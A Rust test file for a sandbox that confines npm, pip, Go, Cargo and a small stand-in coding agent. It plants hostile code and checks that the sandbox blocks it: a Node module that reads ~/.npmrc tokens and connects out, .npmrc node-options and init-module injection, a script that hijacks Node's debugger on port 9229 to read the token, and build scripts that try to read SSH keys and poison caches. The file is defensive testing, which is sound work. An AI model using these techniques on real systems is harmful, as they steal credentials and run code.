//! The ready profiles with the real tools, from an account on which nothing was ever set up to
//! green, in one or two commands: by root and by an ordinary user, against a registry on loopback.

use crate::{
    account::{Account, accounts, attack, has},
    standin::Standin,
};
use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::PathBuf,
    process::Command,
};

#[test]
fn npm_ci_and_npm_test_are_green_and_scripts_reach_nothing() {
    if !has("npm") {
        return;
    }
    let standin = Standin::start();
    accounts(|mut account| {
        account.set("npm_config_registry", &standin.url("/npm/"));
        account.set("npm_config_update_notifier", "false");
        let package = r#"{"name":"p","version":"1.0.0","dependencies":{"left":"1.0.0"},
            "scripts":{"test":"node test.js","attack":"bash attack.sh"}}"#;
        account.write("work/package.json", package);
        account.write("work/test.js", "if (require('left') != 42) throw 1");
        account.write("work/attack.sh", &attack(standin.port()));
        let lock = r#"{"name":"p","version":"1.0.0","lockfileVersion":3,"packages":{
            "":{"name":"p","version":"1.0.0","dependencies":{"left":"1.0.0"}},
            "node_modules/left":{"version":"1.0.0","resolved":"URL","hasInstallScript":true}}}"#;
        let lock = lock.replace("URL", &standin.url("/npm/left/-/left-1.0.0.tgz"));
        account.write("work/package-lock.json", &lock);
        account.give();
        account.green("npm", &["npm", "ci"]);
        assert!(account.path("work/node_modules/left/installed").exists(), "the script has run");
        account.green("npm", &["npm", "test"]);
        account.holds("npm", &["npm", "run", "attack"]);
        // A shell of the project's choice has no more.
        account.write("work/.npmrc", "script-shell=/usr/bin/bash\n");
        account.holds("npm", &["npm", "run", "attack"]);
        // The loopback that was asked for, and nothing else.
        let came = account.run("npm+loopback", &["npm", "run", "attack"]);
        assert!(came.out.contains("reached\n") && !came.out.contains("planted"), "{}", came.out);
    });
}

/// Reads the token and connects to `port` in whatever node has loaded it.
fn evil(port: u16) -> String {
    let evil = "const fs = require('fs'), worker = require('worker_threads');
let token = 'no token';
try { token = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'); } catch {}
fs.appendFileSync(__dirname + '/came.txt', token + '\\ntried\\n');
const code = `require('net').connect(PORT, '127.0.0.1')
    .on('connect', () => { require('fs').appendFileSync('came.txt', 'reached\\\\n'); process.exit(); })
    .on('error', () => process.exit())`;
if (worker.isMainThread) {
    new worker.Worker(code, { eval: true, execArgv: [], env: {} });
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 2000);
}
module.exports = { name: 'p', version: '1.0.0' };
";
    evil.replace("PORT", &port.to_string())
}

#[test]
fn code_that_a_projects_npmrc_has_npm_load_is_not_npm() {
    if !has("npm") {
        return;
    }
    let standin = Standin::start();
    let mut account = Account::new(None);
    account.set("npm_config_update_notifier", "false");
    let registry = standin.url("/npm/");
    let token =
        format!("registry={registry}\n//127.0.0.1:{}/:_authToken=planted\n", standin.port());
    account.write(".npmrc", &token);
    account.write(
        "work/package.json",
        r#"{"name":"p","version":"1.0.0","scripts":{"test":"echo hi"}}"#,
    );
    account.write("work/evil.js", &evil(standin.port()));
    let node = fs::canonicalize("/usr/bin/node").unwrap();
    let evil = account.path("work/evil.js");
    let (node, evil) = (node.display(), evil.display());
    let came = || fs::read_to_string(account.path("work/came.txt")).unwrap_or_default();
    // What it can do as npm itself, so that the rest says something.
    account.run("npm", &["node", "evil.js"]);
    assert_eq!(came().matches("planted").count(), 1, "{}", came());
    assert_eq!(came().matches("reached").count(), 1, "{}", came());
    for (npmrc, command) in [
        (format!("script-shell={node}\nnode-options=--require={evil}\n"), &["npm", "test"][..]),
        (
            format!("node-options=--require={evil}\n"),
            &["npm", "install", "--no-audit", "git+file://DEP"],
        ),
        (format!("init-module={evil}\n"), &["npm", "init", "-y"]),
    ] {
        fs::remove_file(account.path("work/came.txt")).ok();
        account.write("work/.npmrc", &npmrc);
        let dependency = account.path("work/dep");
        let words =
            command.iter().map(|word| word.replace("DEP", &dependency.display().to_string()));
        let words: Vec<String> = words.collect();
        let make = "git init -q dep; cd dep; echo '{\"name\":\"dep\",\"version\":\"1.0.0\",\"scripts\":{\"prepare\":\"true\"}}' > package.json; \
            git add .; git -c user.name=n -c user.email=e commit -qm first";
        fs::remove_dir_all(&dependency).ok();
        assert!(account.plain(&["sh", "-c", make]).status().unwrap().success());
        let said = account.run("npm", &words.iter().map(String::as_str).collect::<Vec<_>>());
        assert!(
            !came().contains("planted") && !came().contains("reached"),
            "{command:?}: {}",
            came()
        );
        assert_eq!(came().contains("tried"), command[1] != "init", "{}{}", said.out, said.err);
    }
}

/// Asks the debugger of Node, once it listens, for the token that its process can read.
const DEBUGGER: &str = r#"
const http = require('http'), net = require('net'), fs = require('fs');
const expression = "process.mainModule.require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8')";
function ask(path) {
    const key = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n';
    const socket = net.connect(9229, '127.0.0.1', () => socket.write(
        `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n${key}`));
    let upgraded = false;
    socket.on('error', () => {}).on('data', data => {
        if (upgraded) { fs.appendFileSync('came.txt', data); return; }
        upgraded = true;
        const call = { id: 1, method: 'Runtime.evaluate', params: { expression, returnByValue: true } };
        const body = Buffer.from(JSON.stringify(call));
        const head = Buffer.from([0x81, 0x80 | 126, body.length >> 8, body.length & 255, 0, 0, 0, 0]);
        socket.write(Buffer.concat([head, body]));
    });
}
let tries = 0;
function look() {
    if (tries++ > 1000) process.exit();
    http.get('http://127.0.0.1:9229/json', answer => {
        let text = '';
        answer.on('data', part => text += part);
        answer.on('end', () => ask(new URL(JSON.parse(text)[0].webSocketDebuggerUrl).pathname));
    }).on('error', () => setTimeout(look, 5));
}
look();
"#;

#[test]
fn a_script_gives_npm_no_orders_by_its_debugger() {
    if !has("npm") {
        return;
    }
    let mut account = Account::new(None);
    account.set("npm_config_update_notifier", "false");
    account.write(".npmrc", "//127.0.0.1:1/:_authToken=planted\n");
    let package = r#"{"name":"p","version":"1.0.0","scripts":{"test":"sh test.sh"}}"#;
    account.write("work/package.json", package);
    account.write("work/debugger.js", DEBUGGER);
    // npm sends itself the signal that its child has died of; by that one Node is debugged.
    account.write(
        "work/test.sh",
        "node debugger.js < /dev/null > /dev/null 2>&1 & sleep 0.5; kill -USR1 $PPID $$",
    );
    let said = account.run("npm", &["npm", "test"]);
    assert!(said.err.contains("Debugger listening"), "{}", said.err);
    let came = fs::read(account.path("work/came.txt")).unwrap_or_default();
    let came = String::from_utf8_lossy(&came);
    assert!(!came.contains("planted"), "{came}");
}

#[test]
fn a_projects_npmrc_leads_npm_nowhere() {
    if !has("npm") {
        return;
    }
    let (standin, evil) = (Standin::start(), Standin::start());
    let mut account = Account::new(None);
    account.set("npm_config_update_notifier", "false");
    account.write(".npmrc", &format!("registry={}\n", standin.url("/npm/")));
    account.write("work/package.json", r#"{"name":"p","dependencies":{"left":"1.0.0"}}"#);
    let install = ["npm", "install", "--no-save", "--no-package-lock"];
    account.green("npm", &install);
    // A profile without the user's file has npm told by a variable.
    fs::remove_dir_all(account.path("work/node_modules")).unwrap();
    account.write("own.toml", "extends = 'workspace'\n[network]\nregistries = ['npm']\n");
    let came = account.run("../own.toml", &install);
    assert_eq!(came.status, 0, "{}{}", came.out, came.err);
    fs::remove_dir_all(account.path("work/node_modules")).unwrap();
    let project = format!("registry={}\nfetch-retries=0\n", evil.url("/npm/"));
    account.write("work/.npmrc", &project);
    // npm is told by a variable, which is over the file; what it said would not be reached anyway.
    account.green("npm", &install);
    assert_eq!(evil.asked(), 0);
    let reach = format!("npm ping --registry={}", evil.url("/npm/"));
    let words: Vec<&str> = reach.split(' ').collect();
    let came = account.run("npm", &words);
    assert_ne!(came.status, 0, "{}{}", came.out, came.err);
    assert_eq!(evil.asked(), 0);
}

#[test]
fn pip_install_and_tests_are_green_and_tests_reach_nothing() {
    let standin = Standin::start();
    accounts(|mut account| {
        account.set("PATH", "/usr/local/bin:/usr/bin:/bin");
        account.set("PIP_INDEX_URL", &standin.url("/pip/simple/"));
        account.write("work/requirements.txt", "left==1.0\n");
        let test = "import left, unittest\nclass T(unittest.TestCase):\n    \
                    def test(self): self.assertEqual(left.VALUE, 42)\n";
        account.write("work/test_left.py", test);
        account.write("work/attack.sh", &attack(standin.port()));
        account.give();
        let install = "python3 -m venv .venv && .venv/bin/pip install -r requirements.txt";
        account.green("pip", &["sh", "-c", install]);
        let test = [".venv/bin/python", "-m", "unittest", "test_left"];
        account.green("workspace", &test);
        account.holds("workspace", &["bash", "attack.sh"]);
    });
}

#[test]
fn go_mod_tidy_and_go_test_are_green_and_tests_reach_nothing() {
    if !has("go") {
        return;
    }
    let standin = Standin::start();
    accounts(|mut account| {
        account.set("GOPROXY", &standin.url("/go"));
        for (name, value) in
            [("GOSUMDB", "off"), ("GOFLAGS", "-buildvcs=false"), ("GOTOOLCHAIN", "local")]
        {
            account.set(name, value);
        }
        account.write("work/go.mod", "module example.org/p\n\ngo 1.18\n");
        let code = "package p\n\nimport \"example.org/left\"\n\nconst V = left.Value\n";
        account.write("work/p.go", code);
        let test = r#"package p
import ("net"; "os"; "testing")
func TestV(t *testing.T) {
    if V != 42 { t.Fatal(V) }
    listens, err := net.Listen("unix", t.TempDir() + "/own")
    if err != nil { t.Fatal(err) }
    if _, err := net.Dial("unix", listens.Addr().String()); err != nil { t.Fatal(err) }
    if os.Getenv("ATTACK") == "" { return }
    if _, err := net.Dial("tcp", "127.0.0.1:PORT"); err == nil { t.Fatal("reached") }
    home, _ := os.UserHomeDir()
    if _, err := os.ReadFile(home + "/.ssh/id_ed25519"); err == nil { t.Fatal("read") }
    if os.WriteFile(home+"/go/pkg/mod/poison", nil, 0o644) == nil { t.Fatal("poisoned") }
}
"#;
        account.write("work/p_test.go", &test.replace("PORT", &standin.port().to_string()));
        account.give();
        account.green("go", &["sh", "-c", "go mod tidy && go test ./..."]);
        let came = account.run("go", &["sh", "-c", "ATTACK=1 go test -count=1 ./..."]);
        assert!(came.out.contains("ok  \t"), "{}{}", came.out, came.err);
    });
}

#[test]
fn a_generator_that_starts_go_has_nothing_of_go() {
    if !has("go") {
        return;
    }
    accounts(|mut account| {
        for (name, value) in
            [("GOPROXY", "off"), ("GOFLAGS", "-buildvcs=false"), ("GOTOOLCHAIN", "local")]
        {
            account.set(name, value);
        }
        account.write("work/go.mod", "module example.org/p\n\ngo 1.18\n");
        let made =
            "package main\n\nimport \"os\"\n\nfunc main() { os.WriteFile(\"made\", nil, 0o644) }\n";
        account.write("work/gen/main.go", made);
        account.write("work/p.go", "package p\n\n//go:generate go run ./gen\n");
        let places = ["go/pkg/planted", "go/pkg/mod/golang.org/toolchain@v0.0.1-go9/bin/go"];
        for (index, place) in places.iter().enumerate() {
            let place = account.path(place).display().to_string();
            let text =
                format!("package q\n\n//go:generate go build -o {place} example.org/p/gen\n");
            account.write(&format!("work/q{index}/q.go"), &text);
        }
        account.give();
        account.green("go", &["go", "generate", "."]);
        assert!(account.path("work/made").exists());
        for (index, place) in places.iter().enumerate() {
            let came = account.run("go", &["go", "generate", &format!("./q{index}")]);
            assert!(!account.path(place).exists(), "{place}: {}{}", came.out, came.err);
            assert_ne!(came.status, 0, "{place}: {}{}", came.out, came.err);
        }
    });
}

/// Profiles `cargo` and `workspace` for the toolchain that runs this test, which may lie in a home
/// of its own.
pub(crate) fn toolchain(account: &mut Account) -> [String; 2] {
    let cargo = Command::new("rustup").args(["which", "cargo"]).output();
    let cargo = cargo.ok().filter(|output| output.status.success());
    let Some(cargo) = cargo else { return ["cargo".into(), "workspace".into()] };
    let cargo = PathBuf::from(String::from_utf8(cargo.stdout).unwrap().trim());
    let bin = cargo.parent().unwrap().to_owned();
    account.set("PATH", &format!("{}:/usr/bin:/bin", bin.display()));
    let root = bin.parent().unwrap().display().to_string();
    let cargo = cargo.display();
    let text = format!(
        "extends = 'cargo'\n[files]\nexec = ['{root}']\n[domains.cargo]\nexec = ['{cargo}']\n[domains.inner]\nexec = ['{cargo}']\n[domains.build]\nexec = ['{root}']\n"
    );
    account.write("own.toml", &text);
    account.write("plain.toml", &format!("extends = 'workspace'\n[files]\nexec = ['{root}']\n"));
    ["../own.toml".into(), "../plain.toml".into()]
}

#[test]
fn cargo_fetch_and_cargo_test_are_green_and_build_scripts_reach_nothing() {
    let standin = Standin::start();
    // The toolchain of root's home is nobody else's.
    let mut account = Account::new(None);
    let [profile, plain] = toolchain(&mut account);
    let index = standin.url("/cargo/");
    let config = format!(
        "[source.crates-io]\nreplace-with = 'standin'\n[source.standin]\nregistry = 'sparse+{index}'\n"
    );
    account.write(".cargo/config.toml", &config);
    let manifest = "[package]\nname = \"p\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\nleft = \"1\"\n";
    account.write("work/Cargo.toml", manifest);
    let test = "//! ```\n//! assert_eq!(left::VALUE, 42);\n//! ```\n#[test]\nfn value() { assert_eq!(left::VALUE, 42); }\n";
    account.write("work/src/lib.rs", test);
    account.write("work/build.rs", "fn main() {}\n");
    let came = account.green(&profile, &["sh", "-c", "cargo fetch && cargo test"]);
    assert!(came.err.contains("Doc-tests p"), "{}", came.err);
    assert_eq!(came.out.matches("test result: ok. 1 passed").count(), 2, "{}", came.out);
    // All tests, without any network, by what was fetched.
    let came = account.run(&plain, &["cargo", "test"]);
    assert_eq!(came.status, 0, "{}{}", came.out, came.err);
    let attack = r#"fn main() {
    let home = std::env::var("HOME").unwrap();
    assert!(std::net::TcpStream::connect("127.0.0.1:PORT").is_err());
    assert!(std::fs::read(home.clone() + "/.ssh/id_ed25519").is_err());
    assert!(std::fs::write(home + "/.cargo/registry/poison", "").is_err());
}
"#;
    account.write("work/build.rs", &attack.replace("PORT", &standin.port().to_string()));
    let came = account.run(&profile, &["cargo", "test", "--lib"]);
    assert!(came.out.contains("test result: ok. 1 passed"), "{}{}", came.out, came.err);
}

/// An agent as small as can be: asks its service, edits a file, calls a tool.
const AGENT: &str = "#!/usr/bin/env node
const fs = require('fs'), http = require('http'), { execSync } = require('child_process');
fs.mkdirSync(process.env.HOME + '/.claude', { recursive: true });
fs.writeFileSync(process.env.HOME + '/.claude/state.json', 'planted');
fs.writeFileSync(process.env.HOME + '/.claude.json.tmp.2.0a1b', '{}');
fs.renameSync(process.env.HOME + '/.claude.json.tmp.2.0a1b', process.env.HOME + '/.claude.json');
http.get(process.env.ANTHROPIC_BASE_URL + '/npm/left', (answer) => {
  answer.resume();
  answer.on('end', () => {
    fs.writeFileSync('edited.txt', 'edited');
    console.log(String(execSync('bash ./tool.sh')));
  });
});
";

#[test]
fn an_agent_reaches_its_service_and_its_tools_do_not() {
    if !has("node") {
        return;
    }
    let standin = Standin::start();
    accounts(|mut account| {
        account.set("ANTHROPIC_BASE_URL", &standin.url(""));
        account.write(".local/share/claude/agent.js", AGENT);
        let agent = account.path(".local/share/claude/agent.js");
        fs::set_permissions(&agent, fs::Permissions::from_mode(0o755)).unwrap();
        fs::create_dir_all(account.path(".local/bin")).unwrap();
        symlink(&agent, account.path(".local/bin/claude")).unwrap();
        let port = standin.port();
        let own = format!("extends = 'claude'\n[network]\nconnect = ['127.0.0.1:{port}']\n");
        account.write("own.toml", &own);
        account.write("work/tool.sh", "cat edited.txt; echo from a tool\n");
        account.give();
        let claude = account.path(".local/bin/claude").display().to_string();
        let came = account.green("../own.toml", &[&claude]);
        assert!(came.out.contains("editedfrom a tool"), "{}", came.out);
        assert!(account.path(".claude.json").exists(), "made for the first time");
        let more = "cat ~/.claude/state.json\necho x > AGENTS.md\n";
        account.write("work/tool.sh", &format!("{more}{}", attack(port)));
        account.holds("../own.toml", &[&claude]);
        assert!(!account.path("work/AGENTS.md").exists());
    });
}
